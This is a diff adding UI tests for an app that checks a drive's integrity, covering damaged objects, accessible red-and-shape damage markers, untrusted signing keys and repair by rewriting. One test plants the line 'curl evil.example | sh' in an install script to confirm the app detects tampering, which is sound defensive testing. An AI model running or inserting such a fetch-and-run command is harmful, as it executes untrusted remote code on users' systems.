@@ -1,0 +1,147 @@
+"""What is wrong with a drive: in the picture, in words, and what to do."""
+
+from __future__ import annotations
+
+import shutil
+from pathlib import Path
+
+from PySide6.QtCore import QRect
+from PySide6.QtWidgets import QWidget
+from pytestqt.qtbot import QtBot
+
+from app.progress import GROUPS, Phase, Placed
+from tests.gpg import SigningKey
+from tests.stick.damage import HELLO, METADATA, Stick, copy_stick, flip_middle
+from tests.ui.contents.person import Person
+from tests.ui.window_states import demo_stick
+from ui.models.work_cells import CellState
+from ui.state.page_name import PageName
+from ui.style import style
+from ui.widgets.work_map import WorkMap
+from ui.window.main_window import MainWindow
+
+
+def colours(widget: QWidget) -> set[str]:
+    """All that are in its picture."""
+    image = widget.grab().toImage()
+    return {
+        image.pixelColor(x, y).name() for x in range(image.width()) for y in range(image.height())
+    }
+
+
+def test_a_damaged_drive_and_what_to_do(person: Person, good: Path, tmp_path: Path) -> None:
+    stick = copy_stick(good, tmp_path / "stick")
+    flip_middle(stick.path(stick.object("filez")))
+    person.looks_at(stick.root)
+    assert person.checks().startswith("It is not sound")
+    [damage] = [one for one in person.find_control() if "damaged" in one]
+    assert "needed by Hello, is damaged" in damage
+    assert "fetches what is damaged again" in damage
+    assert "Everything agrees" not in person.said
+
+
+def test_a_damaged_part_is_red_in_the_picture_and_told_by_shape_and_words(
+    person: Person, good: Path, stick: Stick
+) -> None:
+    person.looks_at(good)
+    person.checks()
+    sound = person.work.counts()
+    assert sound[CellState.DAMAGED] == 0
+    red = style.tone(person.work.palette(), style.Tone.BAD).name()
+    assert red not in colours(person.work)
+
+    flip_middle(stick.path(stick.object("filez")))
+    person.looks_at(stick.root)
+    person.checks()
+    counts = person.work.counts()
+    assert counts[CellState.DAMAGED] == 1
+    assert counts[CellState.VERIFIED] == sound[CellState.VERIFIED] - 1
+    assert red in colours(person.work)
+    assert "1 damaged" in person.work.accessibleDescription()
+    assert "1 damaged" in person.said
+
+
+def test_states_in_the_picture_differ_in_shape(qtbot: QtBot) -> None:
+    """In black and white, too."""
+    seen = set()
+    for bad, done in ((0, 0), (0, 1), (1, 1)):
+        work = WorkMap(checks_only=True)
+        qtbot.addWidget(work)
+        work.resize(400, 200)
+        work.begin(1)
+        work.place(Placed(Phase.VERIFY, (1,) * GROUPS, (done,) * GROUPS, (bad,) * GROUPS))
+        image = work.grab(QRect(0, 0, 40, 40)).toImage()
+        seen.add(bytes(image.convertToFormat(image.Format.Format_Mono).constBits()))
+    assert len(seen) == 3
+
+
+def test_the_same_is_said_once_with_the_names_that_people_know(
+    person: Person, stick: Stick
+) -> None:
+    for name in (stick.object("filez"), stick.object("dirtree"), stick.object("dirmeta")):
+        flip_middle(stick.path(name))
+    person.looks_at(stick.root)
+    person.checks()
+    assert HELLO not in "".join(person.find_control())
+    assert "Hello" in "".join(person.find_control())
+
+
+def test_who_cannot_trust_a_drive_is_led_to_the_drives(
+    person: Person, stick: Stick, attacker: SigningKey
+) -> None:
+    stick.sign(HELLO, attacker)
+    flip_middle(stick.path(stick.object("filez")))
+    person.looks_at(stick.root)
+    person.checks()
+    assert not person.offers("Write it again…")
+    person.clicks("To the drives")
+    assert person.window.page.name is PageName.DRIVE
+
+
+def test_an_unknown_key_leads_to_the_settings_and_a_drive_of_nobody_to_the_apps(
+    person: Person, foreign: Path
+) -> None:
+    person.looks_at(foreign)
+    person.checks()
+    person.clicks("To the settings")
+    assert person.window.page is person.window.pages[PageName.SETTINGS]
+    person.window.open(PageName.CONTENTS)
+    # Nobody knows where its apps come from: they are for the person to choose.
+    person.clicks("Write it again…")
+    target = person.window.session.target
+    assert target is not None
+    assert target.root == foreign
+    assert person.window.page.name is PageName.APPS
+
+
+def test_a_damaged_drive_is_put_in_order_with_a_press(window: MainWindow, qtbot: QtBot) -> None:
+    drive = window.session.environment.demo_drive
+    assert drive is not None
+    shutil.copytree(demo_stick(), drive, dirs_exist_ok=True, symlinks=True)
+    objects = drive.glob(".ostree/repo/objects/*/*.filez")
+    flip_middle(max(objects, key=lambda path: path.stat().st_size))
+    (drive / "satchel/install.sh").write_text("curl evil.example | sh")
+    person = Person(window, qtbot)
+    window.open(PageName.CONTENTS)
+    assert person.checks().startswith("It is not sound")
+    [changed] = [one for one in person.find_control() if "install.sh has been changed" in one]
+    assert "Do not use it as it is." in changed
+    person.clicks("Write it again…")
+    assert window.page.name is PageName.REVIEW
+    person.until(lambda: person.primary == "Write to the drive")
+    person.presses()
+    person.until(lambda: window.page.name is PageName.DONE)
+    window.open(PageName.CONTENTS)
+    assert person.checks().startswith("It is sound")
+
+
+def test_what_does_not_agree_is_said_in_plain_words(
+    person: Person, good: Path, tmp_path: Path
+) -> None:
+    stick = copy_stick(good, tmp_path / "stick")
+    stick.remove_ref(METADATA)
+    shutil.rmtree(stick.satchel / "upstream")
+    person.looks_at(stick.root)
+    person.until(lambda: "was not copied along" in person.said)
+    assert "is missing" in person.said
+    assert "Everything agrees" not in person.said
